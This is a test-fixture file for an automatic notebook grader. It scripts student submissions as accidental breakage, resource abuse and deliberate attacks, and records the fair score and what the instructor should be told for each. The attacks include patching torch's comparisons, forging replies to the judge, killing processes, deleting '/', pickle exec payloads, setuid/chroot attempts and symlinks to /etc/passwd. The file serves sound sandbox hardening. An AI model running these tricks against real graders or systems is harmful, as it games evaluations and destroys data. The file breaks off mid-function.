@@ -1,0 +1,944 @@
+"""Everything that happens to a class, each with the score that is fair and what the instructor should be told."""
+
+from __future__ import annotations
+
+import io
+import json
+import textwrap
+import zipfile
+from collections.abc import Callable
+from dataclasses import dataclass
+
+from tests.submissions.problem_set import ASSIGNMENT, FULL, Student
+
+#: The score without softmax's four points.
+REST = FULL - 4.0
+NAME = f"{ASSIGNMENT}.ipynb"
+
+
+@dataclass(frozen=True)
+class Case:
+    """`score` is what is fair: a number, or the lowest and highest. `told` must appear in the flags or notes."""
+
+    name: str
+    family: str
+    what: str
+    spoil: Callable[[Student], None]
+    score: float | tuple[float, float]
+    status: str = "graded"
+    told: str = ""
+
+
+CASES: list[Case] = []
+
+
+def _case(
+    family: str, what: str, score: float | tuple[float, float], status: str = "graded", told: str = ""
+) -> Callable:
+    def register(spoil: Callable[[Student], None]) -> Callable[[Student], None]:
+        name = spoil.__name__.strip("_").replace("_", "-")
+        CASES.append(Case(name, family, what, spoil, score, status, told))
+        return spoil
+
+    return register
+
+
+def accident(what: str, score: float | tuple[float, float] = FULL, status: str = "graded", told: str = "") -> Callable:
+    return _case("accident", what, score, status, told)
+
+
+def resource(what: str, score: float | tuple[float, float] = FULL, status: str = "graded", told: str = "") -> Callable:
+    return _case("resource", what, score, status, told)
+
+
+def attack(what: str, score: float | tuple[float, float] = REST, status: str = "graded", told: str = "") -> Callable:
+    return _case("attack", what, score, status, told)
+
+
+def _code(text: str) -> str:
+    return textwrap.dedent(text).strip("\n")
+
+
+ZEROS = "def softmax(logits):\n    return torch.zeros_like(logits)"
+
+
+# --- accidents ---------------------------------------------------------------------------------------------------
+
+
+@accident("everything right")
+def _right(s: Student) -> None:
+    pass
+
+
+@accident("handed in as it was given out", 0.0)
+def _untouched(s: Student) -> None:
+    for name in ("softmax", "cross_entropy", "count_parameters"):
+        s.set(name, f"def {name}(*arguments):\n    # YOUR CODE HERE\n    raise NotImplementedError")
+
+
+@accident("an answer cell is there twice", told="2 times")
+def _duplicated_answer(s: Student) -> None:
+    s.cells.insert(s.position("softmax"), dict(s.cell("softmax")))
+
+
+@accident("a wrong first attempt stands before the answer, with the same tag")
+def _older_attempt(s: Student) -> None:
+    s.cells.insert(s.position("softmax"), {**s.cell("softmax"), "source": ZEROS, "id": "older"})
+
+
+@accident("an empty copy of the cell given out follows the answer")
+def _stub_after_answer(s: Student) -> None:
+    stub = {**s.cell("softmax"), "id": "copy", "source": ""}
+    s.cells.insert(s.position("softmax") + 1, stub)
+
+
+@accident("a test cell is there twice")
+def _duplicated_test(s: Student) -> None:
+    s.cells.insert(s.position("softmax-values"), dict(s.cell("softmax-values")))
+
+
+@accident("an answer cell was deleted", REST, told="missing")
+def _deleted_answer(s: Student) -> None:
+    s.cells.remove(s.cell("softmax"))
+
+
+@accident("all test cells were deleted", told="put back")
+def _deleted_tests(s: Student) -> None:
+    s.cells = [c for c in s.cells if not c["metadata"].get("nbgrader", {}).get("grade")]
+
+
+@accident("only the answer cells are left")
+def _only_answers(s: Student) -> None:
+    s.cells = [c for c in s.cells if c["metadata"].get("nbgrader", {}).get("solution")]
+
+
+@accident("the imports were deleted")
+def _deleted_imports(s: Student) -> None:
+    s.cells.remove(s.cell("imports"))
+
+
+@accident("an answer is split over two cells, the tag on the first")
+def _split(s: Student) -> None:
+    body = s.solutions["softmax"].replace("def softmax", "def own_softmax")
+    s.set("softmax", body)
+    s.add("def softmax(logits):\n    return own_softmax(logits)", after="softmax")
+
+
+@accident("an answer is split over two cells, the tag on both")
+def _split_with_tags(s: Student) -> None:
+    body = s.solutions["softmax"].replace("def softmax", "def own_softmax")
+    first = {**s.cell("softmax"), "id": "first-half", "source": body}
+    s.cells.insert(s.position("softmax"), first)
+    s.set("softmax", "def softmax(logits):\n    return own_softmax(logits)")
+
+
+@accident("two answers were merged into one cell", told="another cell")
+def _merged(s: Student) -> None:
+    s.set("softmax", s.solutions["softmax"] + "\n\n" + s.solutions["cross_entropy"])
+    s.cells.remove(s.cell("cross_entropy"))
+
+
+@accident("everything was merged into one cell, tests too")
+def _merged_all(s: Student) -> None:
+    parts = ["import torch", "from helpers import check", *(s.solutions[n] for n in s.solutions if n != "train_mnist")]
+    parts += ["check.softmax(softmax)", "check.cross_entropy(cross_entropy)"]
+    s.cells = [{**s.cell("softmax"), "source": "\n\n".join(parts)}]
+
+
+@accident("the answers stand at the end, in reverse order")
+def _moved(s: Student) -> None:
+    answers = [s.cell(name) for name in ("count_parameters", "cross_entropy", "softmax")]
+    s.cells = [c for c in s.cells if c not in answers] + answers
+
+
+@accident("an answer became a markdown cell", told="markdown")
+def _retyped_markdown(s: Student) -> None:
+    cell = s.cell("softmax")
+    cell["cell_type"] = "markdown"
+
+
+@accident("an answer became a markdown cell with a fence", told="markdown")
+def _retyped_fenced(s: Student) -> None:
+    cell = s.cell("softmax")
+    cell["cell_type"], cell["source"] = "markdown", f"```python\n{cell['source']}\n```"
+
+
+@accident("an answer became a raw cell", told="raw")
+def _retyped_raw(s: Student) -> None:
+    s.cell("softmax")["cell_type"] = "raw"
+
+
+@accident("a helper function in a cell of the student's own", told="student's own")
+def _helper_cell(s: Student) -> None:
+    s.add("def shifted(z):\n    return z - z.amax(-1, keepdim=True)")
+    s.set("softmax", "def softmax(z):\n    e = shifted(z).exp()\n    return e / e.sum(-1, keepdim=True)")
+
+
+@accident("a helper that is defined only at the end", REST)
+def _helper_too_late(s: Student) -> None:
+    s.set("softmax", "def softmax(z):\n    e = shifted(z).exp()\n    return e / e.sum(-1, keepdim=True)")
+    s.add("def shifted(z):\n    return z - z.amax(-1, keepdim=True)", after=s.cells[-1]["id"])
+
+
+@accident("all of nbgrader's metadata is gone")
+def _no_metadata(s: Student) -> None:
+    for cell in s.cells:
+        cell["metadata"] = {}
+
+
+@accident("metadata and cell ids are gone", told="found by what it defines")
+def _no_metadata_no_ids(s: Student) -> None:
+    for cell in s.cells:
+        cell["metadata"] = {}
+        del cell["id"]
+
+
+@accident("the functions alone, typed into a new notebook")
+def _fresh_notebook(s: Student) -> None:
+    sources = [s.solutions[n] for n in ("softmax", "cross_entropy", "count_parameters")]
+    s.notebook = {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": []}
+    for number, source in enumerate(sources):
+        s.cells.append({"cell_type": "code", "id": f"new{number}", "metadata": {}, "source": source, "outputs": []})
+
+
+@accident("a schema version from the future")
+def _schema_future(s: Student) -> None:
+    for cell in s.cells:
+        cell["metadata"].get("nbgrader", {})["schema_version"] = 99
+
+
+@accident("a schema version that is a word, and points that are text")
+def _schema_text(s: Student) -> None:
+    for cell in s.cells:
+        if "nbgrader" in cell["metadata"]:
+            cell["metadata"]["nbgrader"] |= {"schema_version": "three", "points": "many"}
+
+
+@accident("no schema version at all")
+def _schema_missing(s: Student) -> None:
+    for cell in s.cells:
+        cell["metadata"].get("nbgrader", {}).pop("schema_version", None)
+
+
+@accident("metadata of the wrong shape")
+def _metadata_list(s: Student) -> None:
+    for cell in s.cells:
+        cell["metadata"] = ["nbgrader"]
+
+
+@accident("saved by Colab: nbformat 4.0, no ids, extra keys")
+def _colab(s: Student) -> None:
+    s.notebook["nbformat_minor"] = 0
+    s.notebook["metadata"] = {"colab": {"provenance": []}, "accelerator": "GPU"}
+    for cell in s.cells:
+        del cell["id"]
+        cell["metadata"] = {**cell["metadata"], "id": "qWx3kYz", "outputId": "0f", "executionInfo": {"elapsed": 3}}
+
+
+@accident("saved by VS Code: its own metadata, no kernelspec")
+def _vscode(s: Student) -> None:
+    s.notebook["metadata"] = {"language_info": {"name": "python"}, "vscode": {"interpreter": {"hash": "1"}}}
+    for cell in s.cells:
+        cell["metadata"]["vscode"] = {"languageId": "python"}
+        cell["source"] = cell["source"].splitlines(keepends=True)
+
+
+@accident("nbformat 3")
+def _nbformat_three(s: Student) -> None:
+    cells = [{**c, "input": c["source"], "language": "python"} if c["cell_type"] == "code" else c for c in s.cells]
+    for cell in cells:
+        if cell["cell_type"] == "code":
+            cell.pop("source")
+    s.notebook = {"nbformat": 3, "nbformat_minor": 0, "metadata": {"name": ""}, "worksheets": [{"cells": cells}]}
+
+
+@accident("a format of the future with unknown keys")
+def _nbformat_future(s: Student) -> None:
+    s.notebook |= {"nbformat": 4, "nbformat_minor": 99, "signature": "x"}
+    s.cells.append({"cell_type": "hologram", "source": "?", "metadata": {}})
+
+
+@accident("cut off after the second answer", 9.0, told="cut off")
+def _truncated(s: Student) -> None:
+    whole = json.dumps(s.notebook)
+    s.files[NAME] = whole[: whole.index('"count_parameters-text"') - 30].encode()
+
+
+@accident("an empty file", 0.0, "unreadable")
+def _empty(s: Student) -> None:
+    s.files[NAME] = b""
+
+
+@accident("a file of zero bytes' worth of zeros", 0.0, "unreadable")
+def _zeros(s: Student) -> None:
+    s.files[NAME] = bytes(5000)
+
+
+@accident("plain text", 0.0, "unreadable")
+def _not_json(s: Student) -> None:
+    s.files[NAME] = b"I did it, see my other hand-in."
+
+
+@accident("JSON that is no notebook", 0.0, "unreadable")
+def _other_json(s: Student) -> None:
+    s.files[NAME] = b'{"answer": 42}'
+
+
+@accident("JSON nested a hundred thousand deep", 0.0, "unreadable")
+def _deep_json(s: Student) -> None:
+    s.files[NAME] = b"[" * 100_000
+
+
+@accident("a web page instead of a notebook", 0.0, "unreadable", told="web page")
+def _html(s: Student) -> None:
+    s.files[NAME] = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
+
+
+@accident("Latin-1 instead of UTF-8", told="not UTF-8")
+def _latin1(s: Student) -> None:
+    s.cell("softmax")["source"] += "\n# déjà vu"
+    s.files[NAME] = json.dumps(s.notebook, ensure_ascii=False).encode("latin-1", "replace")
+
+
+@accident("UTF-16", told="UTF-16")
+def _utf16(s: Student) -> None:
+    s.files[NAME] = json.dumps(s.notebook).encode("utf-16")
+
+
+@accident("UTF-8 with a byte order mark")
+def _utf8_mark(s: Student) -> None:
+    s.files[NAME] = b"\xef\xbb\xbf" + s.bytes()
+
+
+@accident("half a surrogate pair in a comment")
+def _surrogate(s: Student) -> None:
+    s.cell("softmax")["source"] += "\n# \ud83d"
+
+
+@accident("another file name", told="was taken for it")
+def _wrong_name(s: Student) -> None:
+    s.files["homework final (2).ipynb"], s.name = s.bytes(), ""
+
+
+@accident("in a sub-folder", told="was taken for it")
+def _sub_folder(s: Student) -> None:
+    s.files[f"my work/{NAME}"], s.name = s.bytes(), ""
+
+
+@accident("a zip instead of a notebook", told="zip")
+def _zip(s: Student) -> None:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w") as archive:
+        archive.writestr(f"work/{NAME}", s.bytes())
+    s.files["work.zip"], s.name = buffer.getvalue(), ""
+
+
+@accident("a zip that calls itself a notebook", told="zip")
+def _zip_as_notebook(s: Student) -> None:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w") as archive:
+        archive.writestr(NAME, s.bytes())
+    s.files[NAME] = buffer.getvalue()
+
+
+@accident("a damaged zip", 0.0, "unreadable")
+def _broken_zip(s: Student) -> None:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w") as archive:
+        archive.writestr(NAME, s.bytes())
+    s.files["work.zip"], s.name = buffer.getvalue()[:200], ""
+
+
+@accident("nothing in the folder", 0.0, "missing")
+def _nothing(s: Student) -> None:
+    s.name = ""
+
+
+@accident("a photograph only", 0.0, "unreadable")
+def _photograph(s: Student) -> None:
+    s.name, s.files = "", {"IMG_1234.jpg": b"\xff\xd8\xff\xe0"}
+
+
+@accident("an old copy in .ipynb_checkpoints")
+def _checkpoints(s: Student) -> None:
+    s.files[".ipynb_checkpoints/old.ipynb"] = b"{}"
+
+
+@accident("Windows line ends")
+def _crlf(s: Student) -> None:
+    for cell in s.cells:
+        cell["source"] = cell["source"].replace("\n", "\r\n")
+
+
+@accident("cells without a source, cells that are no cells")
+def _odd_cells(s: Student) -> None:
+    s.cells += [None, 3, {"cell_type": "code"}, {"cell_type": "code", "source": {"a": 1}, "metadata": None}]
+
+
+@accident("a syntax error in one answer", REST)
+def _syntax_error(s: Student) -> None:
+    s.set("softmax", "def softmax(logits)\n    return logits")
+
+
+@accident("a syntax error in a cell of the student's own")
+def _own_syntax_error(s: Student) -> None:
+    s.add("this is not python")
+
+
+@accident("marks of a version conflict in an answer", REST)
+def _conflict(s: Student) -> None:
+    s.set("softmax", "<<<<<<< HEAD\n" + s.solutions["softmax"] + "\n=======\n>>>>>>> other")
+
+
+@accident("another function name", REST)
+def _misnamed(s: Student) -> None:
+    s.set("softmax", s.solutions["softmax"].replace("def softmax", "def soft_max"))
+
+
+@accident("input() left over in a cell")
+def _input(s: Student) -> None:
+    s.add("name = input('Your name? ')")
+
+
+@accident("a cell that raises")
+def _raises(s: Student) -> None:
+    s.add("1 / 0")
+
+
+@accident("sys.exit() in a cell")
+def _exit(s: Student) -> None:
+    s.add("import sys\nsys.exit(1)")
+
+
+@accident("magics and shell lines")
+def _magics(s: Student) -> None:
+    s.add("%matplotlib inline\n!ls\n%timeit -n1 -r1 1+1")
+
+
+@accident("warnings on stderr while answering")
+def _warnings(s: Student) -> None:
+    body = s.solutions["softmax"].replace(
+        ":\n", ":\n    import sys, warnings; warnings.warn('!'); print('!', file=sys.stderr)\n", 1
+    )
+    s.set("softmax", body)
+
+
+@accident("names of the course overwritten in a cell")
+def _overwritten(s: Student) -> None:
+    s.add("check = None\nlogits = 3", after="softmax-stable")
+
+
+@accident("a diverged loss: nan", REST)
+def _nan(s: Student) -> None:
+    s.set("softmax", "def softmax(logits):\n    return logits * float('nan')")
+
+
+@accident("stored outputs of many megabytes")
+def _big_outputs(s: Student) -> None:
+    s.cell("softmax")["outputs"] = [{"output_type": "stream", "name": "stdout", "text": "x" * 5_000_000}]
+
+
+@accident("a right answer that calls a wrong earlier one", (3.0, 4.0))
+def _calls_a_wrong_one(s: Student) -> None:
+    s.set("softmax", ZEROS)
+    s.set(
+        "cross_entropy",
+        _code("""
+        def cross_entropy(logits, labels):
+            if len(labels) == 0 or labels.min() < 0 or labels.max() >= logits.shape[1]:
+                raise ValueError("labels")
+            return -softmax(logits)[torch.arange(len(labels)), labels].log().mean()
+        """),
+    )
+
+
+# --- resources ---------------------------------------------------------------------------------------------------
+
+
+@resource("an endless loop in an answer", REST)
+def _endless_answer(s: Student) -> None:
+    s.set("softmax", "def softmax(logits):\n    while True:\n        pass")
+
+
+@resource("an endless loop that swallows interrupts, in an answer", REST, told="did not finish in time")
+def _stubborn_answer(s: Student) -> None:
+    s.set(
+        "softmax",
+        _code("""
+        def softmax(logits):
+            while True:
+                try:
+                    while True:
+                        pass
+                except BaseException:
+                    pass
+        """),
+    )
+
+
+@resource("an endless loop in a cell", told="stopped after")
+def _endless_cell(s: Student) -> None:
+    s.add("while True:\n    pass")
+
+
+@resource("an endless loop that swallows interrupts, in a cell", told="did not finish in time")
+def _stubborn_cell(s: Student) -> None:
+    s.add("import signal\nsignal.pthread_sigmask(signal.SIG_BLOCK, range(1, 60))\nwhile True:\n    pass")
+
+
+@resource("gigabytes in an answer", REST)
+def _memory_answer(s: Student) -> None:
+    s.set("softmax", "def softmax(logits):\n    return [torch.ones(2**28) for _ in range(64)]")
+
+
+@resource("gigabytes in a cell")
+def _memory_cell(s: Student) -> None:
+    s.add("hoard = [bytearray(2**28) for _ in range(100)]")
+
+
+@resource("a fork bomb")
+def _fork_bomb(s: Student) -> None:
+    s.add("import os\nfor _ in range(20):\n    os.fork()")
+
+
+@resource("threads left behind")
+def _threads(s: Student) -> None:
+    s.add("import threading, time\nfor _ in range(5):\n    threading.Thread(target=time.sleep, args=(1000,)).start()")
+
+
+@resource("processes left behind", told="starts programs")
+def _processes(s: Student) -> None:
+    s.add("import subprocess\nfor _ in range(3):\n    subprocess.Popen(['sleep', '1000'], start_new_session=True)")
+
+
+@resource("fifty megabytes on one line")
+def _long_line(s: Student) -> None:
+    s.add("print('x' * 50_000_000)")
+
+
+@resource("a million lines")
+def _many_lines(s: Student) -> None:
+    s.add("for i in range(1_000_000):\n    print(i)")
+
+
+@resource("a disk filled up")
+def _full_disk(s: Student) -> None:
+    s.add("for i in range(1000):\n    open(f'/tmp/junk{i}', 'wb').write(bytes(2**22))")
+
+
+@resource("many slow cells", (0.0, FULL), told="as a whole")
+def _slow_cells(s: Student) -> None:
+    for _ in range(15):
+        s.add("import time\ntime.sleep(5)")
+
+
+@resource("a thousand figures")
+def _figures(s: Student) -> None:
+    s.add("import matplotlib.pyplot as plt\nfor i in range(1000):\n    plt.figure()\n    plt.show()")
+
+
+@resource("endless recursion", REST)
+def _recursion(s: Student) -> None:
+    s.set("softmax", "def softmax(logits):\n    return softmax(logits)")
+
+
+@resource("a crash below Python in an answer", REST, told="process")
+def _segfault_answer(s: Student) -> None:
+    s.set("softmax", "def softmax(logits):\n    import ctypes\n    ctypes.string_at(0)")
+
+
+@resource("a crash below Python in a cell", told="process")
+def _segfault_cell(s: Student) -> None:
+    s.add("import ctypes\nctypes.string_at(0)")
+
+
+@resource("the process ended in a cell", told="process")
+def _exit_cell(s: Student) -> None:
+    s.add("import os\nos._exit(0)")
+
+
+@resource("a result of billions of numbers", REST)
+def _huge_result(s: Student) -> None:
+    s.set("softmax", "def softmax(logits):\n    return torch.zeros(1).expand(2**40)")
+
+
+@resource("a result that never ends", REST)
+def _endless_result(s: Student) -> None:
+    s.set("softmax", "def softmax(logits):\n    import itertools\n    return itertools.count()")
+
+
+@resource("a result nested ten thousand deep", REST)
+def _deep_result(s: Student) -> None:
+    s.set("softmax", "def softmax(logits):\n    r = []\n    for _ in range(10_000):\n        r = [r]\n    return r")
+
+
+@resource("a result that holds itself", REST)
+def _cyclic_result(s: Student) -> None:
+    s.set("softmax", "def softmax(logits):\n    r = []\n    r.append(r)\n    return r")
+
+
+@resource("ten thousand open files")
+def _open_files(s: Student) -> None:
+    s.add("files = []\nfor i in range(10_000):\n    files.append(open('/dev/null'))")
+
+
+# --- attacks: softmax is wrong, and something is tried to get its points all the same ----------------------------
+
+
+def _zeros_and(code: str) -> Callable[[Student], None]:
+    def spoil(s: Student) -> None:
+        s.set("softmax", ZEROS)
+        s.add(_code(code))
+
+    return spoil
+
+
+def _trick(name: str, what: str, code: str, score: float | tuple[float, float] = REST, told: str = "") -> None:
+    spoil = _zeros_and(code)
+    spoil.__name__ = name
+    attack(what, score, told=told)(spoil)
+
+
+def _spy(name: str, what: str, code: str) -> None:
+    """The answer turns right if the spying found anything: whoever learns something, shows it by a better score."""
+
+    def spoil(s: Student) -> None:
+        right = s.solutions["softmax"].replace("def softmax", "def right_softmax")
+        s.add(right)
+        s.add("leaked = False\n" + _code(code), after="softmax-text")
+        s.set("softmax", f"def softmax(logits):\n    {'return right_softmax(logits) if leaked else logits * 0'}")
+
+    spoil.__name__ = name
+    attack(what)(spoil)
+
+
+_trick("patch_allclose", "torch.allclose, equal and testing replaced", """
+    torch.allclose = torch.equal = torch.isclose = lambda *a, **k: True
+    torch.testing.assert_close = lambda *a, **k: None
+    """, told="replaces torch.allclose")  # fmt: skip
+_trick("patch_assert", "AssertionError and assert replaced", """
+    import builtins
+    class Quiet(Exception):
+        def __new__(cls, *a): return Exception.__new__(cls)
+    builtins.AssertionError = Quiet
+    """, told="builtins.AssertionError")  # fmt: skip
+_trick("patch_type", "type and isinstance replaced", """
+    import builtins
+    builtins.isinstance = lambda *a: True
+    """, (0.0, REST), told="builtins.isinstance")  # fmt: skip
+_trick("patch_torch", "torch's own softmax, exp and comparison replaced", """
+    torch.softmax = torch.exp = lambda x, *a, **k: x * 0
+    torch.Tensor.__eq__ = lambda a, b: True
+    torch.nn.functional.softmax = lambda x, *a, **k: x * 0
+    """, (0.0, REST), told="replaces torch")  # fmt: skip
+_trick("patch_check", "the checks replaced", """
+    import sys, helpers
+    class Fine:
+        def __getattr__(self, name): return lambda *a, **k: None
+    helpers.check = sys.modules['helpers.check'] = check = Fine()
+    """, told="replaces")  # fmt: skip
+_trick("patch_numpy", "numpy's comparisons replaced", """
+    import numpy as np
+    np.allclose = np.array_equal = lambda *a, **k: True
+    """, told="replaces np")  # fmt: skip
+_trick("equal_to_everything", "an object that equals everything", """
+    class Same:
+        shape = dtype = None
+        def __eq__(self, other): return True
+        def __bool__(self): return True
+        def __getattr__(self, name): return self
+        def __call__(self, *a, **k): return self
+    def zeros_like(x): return Same()
+    torch.zeros_like = zeros_like
+    """, (0.0, REST), told="__eq__")  # fmt: skip
+_trick("tensor_subclass", "a tensor subclass that lies about itself", """
+    class Liar(torch.Tensor):
+        @classmethod
+        def __torch_function__(cls, f, t, a=(), k=None): return torch.tensor(True)
+    plain = torch.zeros_like
+    torch.zeros_like = lambda x: plain(x).as_subclass(Liar)
+    """, (0.0, REST), told="__torch_function__")  # fmt: skip
+_trick("ast_transformer", "a transformer that removes checks from later cells", """
+    import ast
+    class Drop(ast.NodeTransformer):
+        def visit_Assert(self, node): return None
+        def visit_Expr(self, node): return None
+    get_ipython().ast_transformers.append(Drop())
+    """, told="rewrites the code")  # fmt: skip
+_trick("input_transformer", "an input transformer that empties later cells", """
+    get_ipython().input_transformers_post.append(lambda lines: ['pass'])
+    """, (0.0, REST), told="rewrites the code")  # fmt: skip
+_trick("run_cell_patched", "the shell's run_cell replaced", """
+    shell = get_ipython()
+    type(shell).run_cell = lambda self, *a, **k: None
+    """, (0.0, REST))  # fmt: skip
+_trick("atexit_forger", "code that runs when the process ends", """
+    import atexit
+    atexit.register(lambda: print('all right'))
+    """, told="atexit")  # fmt: skip
+_trick("signal_handlers", "all signals ignored", """
+    import signal
+    for number in range(1, 60):
+        try: signal.signal(number, signal.SIG_IGN)
+        except (OSError, ValueError): pass
+    """, told="signal")  # fmt: skip
+_trick("kill_parent", "the parent and everyone killed", """
+    import os, signal
+    for target in (os.getppid(), -1):
+        try: os.kill(target, signal.SIGKILL)
+        except OSError: pass
+    """, told="ends processes")  # fmt: skip
+_trick("delete_everything", "every file that can be deleted is deleted", """
+    import shutil, os
+    for path in ('/tmp', '/home', os.getcwd(), '/usr', '/'):
+        shutil.rmtree(path, ignore_errors=True)
+    """)  # fmt: skip
+_trick("pickle_bomb", "a result that runs code when unpickled", """
+    class Bomb:
+        def __reduce__(self): return (exec, ("import os; os._exit(1)",))
+    torch.zeros_like = lambda x: Bomb()
+    """, (0.0, REST))  # fmt: skip
+_trick("forked_twin", "a second process that answers too", """
+    import os
+    os.fork()
+    """, REST)  # fmt: skip
+_trick("forged_reply", "a forged reply written to the judge", """
+    import os
+    for fd in range(3, 60):
+        try: os.write(fd, (20).to_bytes(8, 'little') + b'A+' + bytes(18))
+        except OSError: pass
+    """, (0.0, REST))  # fmt: skip
+_trick("forged_forever", "a forged reply before every question", """
+    import os, threading, time
+    def shout():
+        while True:
+            for fd in range(3, 20):
+                try: os.write(fd, (30).to_bytes(8, 'little') + b'A+' + bytes(28))
+                except OSError: pass
+            time.sleep(0.01)
+    threading.Thread(target=shout, daemon=True).start()
+    """, (0.0, REST))  # fmt: skip
+_trick("oversized_reply", "a reply of 2 to the 60 bytes announced", """
+    import os
+    for fd in range(3, 60):
+        try: os.write(fd, (2**60).to_bytes(8, 'little') + b'A+')
+        except OSError: pass
+    """, (0.0, REST))  # fmt: skip
+_trick("closed_channel", "every open file closed", """
+    import os
+    os.closerange(3, 100)
+    """, (0.0, FULL - 4))  # fmt: skip
+_trick("host_patched", "the code that answers the judge replaced", """
+    import gc
+    for thing in gc.get_objects():
+        if type(thing).__name__ == 'Host':
+            type(thing).serve = lambda self, request: b'{}'
+    """, (0.0, REST), told="memory of the process")  # fmt: skip
+_trick("seeds_pinned", "every random generator pinned", """
+    torch.manual_seed = torch.randn = torch.rand = lambda *a, **k: torch.zeros(1)
+    """, (0.0, REST), told="replaces torch")  # fmt: skip
+_trick("finished_softmax", "the library's softmax under another name", """
+    from torch.nn.functional import softmax as borrowed
+    def zeros_like(x): return borrowed(x, -1)
+    torch.zeros_like = zeros_like
+    """, (0.0, REST), told="replaces torch")  # fmt: skip
+
+_spy("read_notebooks", "looks for notebooks, hidden tests and gradebooks on the disk", """
+    import os
+    for folder, _, files in os.walk('/'):
+        if folder.startswith(('/proc', '/sys')): continue
+        leaked |= any(f.endswith(('.ipynb', 'gradebook.db')) and 'site-packages' not in folder and 'share' not in folder for f in files)
+    """)  # fmt: skip
+_spy("read_course", "looks for the course's folders", """
+    import os
+    leaked = any(os.path.exists(p) for p in ('source', 'gradebook.db', 'submitted', '../source', 'grading', 'release'))
+    """)  # fmt: skip
+_spy("read_checks", "imports the checks or finds their file", """
+    import sys
+    for name in ('helpers.check.mnist_dnn', 'helpers.check.exercise', 'helpers.grading', 'helpers.models'):
+        try:
+            __import__(name); leaked = True
+        except ImportError:
+            pass
+    leaked |= any('helpers.check.' in name or 'helpers.grading' in name for name in sys.modules)
+    """)  # fmt: skip
+_spy("read_memory", "looks through memory for expected values", """
+    import gc
+    words = ('ValueExercise', 'Mistaken', 'Verdict', 'Judgement', 'CheckCall', 'Exam')
+    leaked = any(type(thing).__name__ in words for thing in gc.get_objects())
+    """)  # fmt: skip
+_spy("read_environment", "looks for the seed in the environment", """
+    import os
+    leaked = any('SEED' in name and name != 'PYTHONHASHSEED' for name in os.environ)
+    leaked |= b'COURSE_SEED' in open('/proc/self/environ', 'rb').read()
+    """)  # fmt: skip
+_spy("read_arguments", "looks at the command line", """
+    leaked = b'submitted' in open('/proc/self/cmdline', 'rb').read()
+    """)  # fmt: skip
+_spy("read_frames", "looks at the callers' variables for expected values", """
+    import sys
+    frame = sys._getframe()
+    while frame is not None:
+        leaked |= any(name in ('expected', 'verdict', 'seed', 'trial') for name in frame.f_locals)
+        frame = frame.f_back
+    """)  # fmt: skip
+_spy("read_history", "looks at the history of other students", """
+    try:
+        leaked = len(list(get_ipython().history_manager.search('*'))) > 0
+    except Exception:
+        pass
+    """)  # fmt: skip
+_spy("see_processes", "looks for other processes", """
+    import os
+    pids = [int(name) for name in os.listdir('/proc') if name.isdigit()] if os.path.isdir('/proc') else []
+    leaked = any(pid != os.getpid() for pid in pids)
+    """)  # fmt: skip
+_spy("network", "opens a connection", """
+    import socket
+    for address in (('1.1.1.1', 53), ('127.0.0.1', 22), ('127.0.0.1', 8888)):
+        try:
+            socket.create_connection(address, 1); leaked = True
+        except OSError:
+            pass
+    """)  # fmt: skip
+_spy("abstract_sockets", "looks for sockets of other programs", """
+    import os
+    path = '/proc/net/unix'
+    leaked = os.path.exists(path) and '@' in open(path).read()
+    """)  # fmt: skip
+_spy("write_system", "writes into Python's folders or the system's", """
+    import sys, os
+    for folder in [*sys.path, '/usr/bin', '/etc', '/', sys.prefix]:
+        try:
+            open(os.path.join(folder, 'sitecustomize.py'), 'w').close(); leaked = True
+        except OSError:
+            pass
+    """)  # fmt: skip
+_spy("become_root", "tries to become root, to mount, to leave the room", """
+    import ctypes, os
+    libc = ctypes.CDLL(None)
+    leaked = os.getuid() == 0 or libc.setuid(0) == 0 or libc.mount(b'tmpfs', b'/usr', b'tmpfs', 0, None) == 0
+    leaked |= libc.chroot(b'/tmp') == 0
+    """)  # fmt: skip
+_spy("open_descriptors", "reads files that the grader may have left open", """
+    import os, stat
+    for fd in range(3, 256):
+        try:
+            leaked |= stat.S_ISREG(os.fstat(fd).st_mode) and os.readlink(f'/proc/self/fd/{fd}').endswith(('.ipynb', '.db', '.json'))
+        except OSError:
+            pass
+    """)  # fmt: skip
+_spy("mark_left", "leaves marks for the next student", """
+    import os
+    home = os.path.expanduser('~')
+    os.makedirs(f'{home}/.ipython/profile_default/startup', exist_ok=True)
+    for path in ('/tmp/mark', '/dev/shm/mark', f'{home}/.ipython/profile_default/startup/00.py', f'{home}/mark'):
+        try: open(path, 'w').write('leaked = True')
+        except OSError: pass
+    """)  # fmt: skip
+_spy("mark_looked_for", "looks for marks that another student left", """
+    import os
+    home = os.path.expanduser('~')
+    leaked = any(os.path.exists(p) for p in ('/tmp/mark', '/dev/shm/mark', f'{home}/mark', f'{home}/.ipython/profile_default/startup'))
+    """)  # fmt: skip
+
+
+@attack("modules of its own that shadow numpy and torch", told="not used")
+def _shadow_modules(s: Student) -> None:
+    s.files["numpy.py"] = s.files["torch.py"] = b"evil = True"
+    s.set("softmax", s.solutions["softmax"].replace("def softmax", "def right_softmax"))
+    s.add(
+        "import numpy\ndef softmax(z):\n    return right_softmax(z) if hasattr(numpy, 'evil') or hasattr(torch, 'evil') else z * 0",
+        after="softmax",
+    )
+
+
+@attack("a symbolic link to the instructor's notebook", 0.0, "unreadable", told="symbolic link")
+def _symbolic_link(s: Student) -> None:
+    s.name, s.links = "", {NAME: f"../../../source/{ASSIGNMENT}/{NAME}"}
+
+
+@attack("a symbolic link beside the notebook", FULL, told="symbolic link")
+def _symbolic_link_beside(s: Student) -> None:
+    s.links = {"passwords": "/etc/passwd", "everything": "/"}
+
+
+@attack("a time stamp from before the course", FULL, told="time stamp")
+def _forged_time_stamp(s: Student) -> None:
+    s.files["timestamp.txt"] = b"2001-01-01 00:00:00 UTC"
+
+
+@attack("a time stamp from the future", FULL, told="time stamp")
+def _future_time_stamp(s: Student) -> None:
+    s.files["timestamp.txt"] = b"2999-01-01 00:00:00 UTC"
+
+
+@attack("cell tags that skip execution", told="tag")
+def _skip_tags(s: Student) -> None:
+    s.set("softmax", ZEROS)
+    for cell in s.cells:
+        cell["metadata"]["tags"] = ["skip-execution"]
+
+
+@attack("the test cells emptied", told="was changed")
+def _emptied_tests(s: Student) -> None:
+    s.set("softmax", ZEROS)
+    s.set("softmax-values", "pass")
+    s.set("softmax-stable", "1.0")
+
+
+@attack("the points of the test cells raised")
+def _raised_points(s: Student) -> None:
+    s.set("softmax", ZEROS)
+    for cell in s.cells:
